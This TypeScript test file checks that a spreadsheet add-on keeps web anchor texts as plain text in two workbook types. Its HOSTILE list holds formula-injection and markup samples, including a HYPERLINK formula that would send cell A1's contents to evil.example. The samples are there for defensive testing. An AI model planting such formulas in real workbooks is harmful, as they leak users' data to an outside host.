// Texts of the web that look like formulas, numbers or markup, through the real add-on into both workbooks: each
// stays the text it is.
import { describe, expect, it } from "vitest";
import { KEY_PROPERTY, openSandboxAccess } from "../../workbench/api-access.ts";
import { createHost, readBundle } from "../../workbench/emulator/host.ts";
import { createMemoryWorkbook } from "../../workbench/workbook/memory-workbook.ts";
import { createOSpreadsheetWorkbook } from "../../workbench/workbook/o-spreadsheet/o-spreadsheet-workbook.ts";
import type { Cell } from "../../workbench/workbook/workbook.ts";
import { area, type CreateWorkbook, put } from "./workbook/workbook-bench.ts";

/** So many anchors of the sandbox hold these odd texts. */
const ANCHORS = 180;

const HOSTILE = [
  "=1+1",
  "'=1+1",
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "+1 for this",
  "-1",
  "@SUM(1+1)",
  "<script>alert(1)</script>",
  "1/2",
  "0012",
  "#REF!",
];

describe.each<[string, CreateWorkbook]>([
  ["o-spreadsheet workbook", createOSpreadsheetWorkbook],
  ["memory workbook", createMemoryWorkbook],
])("in the %s", (_name, create) => {
  it("anchors are texts, never computed", async () => {
    const access = await openSandboxAccess();
    const workbook = create();
    const switches = { evaluateWithoutPage: true };
    const host = createHost({ bundle: readBundle("dist"), workbook, network: access.network, switches });
    host.state.documentProperties.setAll({ [KEY_PROPERTY]: access.key });
    workbook.connectFunctions(host.customFunctions);
    put(workbook, "A1", [[`=SER_ANCHORS("seranking.com","anchor",${ANCHORS})`]]);
    await expect.poll(() => workbook.hasPendingFormulas(), { timeout: 20_000 }).toBe(false);
    const cells = workbook.read(area(`A2:A${ANCHORS + 1}`)).flat();
    const found = (text: string): Cell | undefined => cells.find(({ value }) => value === text);
    expect(HOSTILE.map(found)).toEqual(HOSTILE.map((value) => ({ value })));
    // Links without text have a blank anchor.
    const computed = cells.filter(
      ({ value, error }) => error !== undefined || !(typeof value === "string" || value === null),
    );
    expect(computed).toEqual([]);
    await host.close();
    await access.close();
  });
});
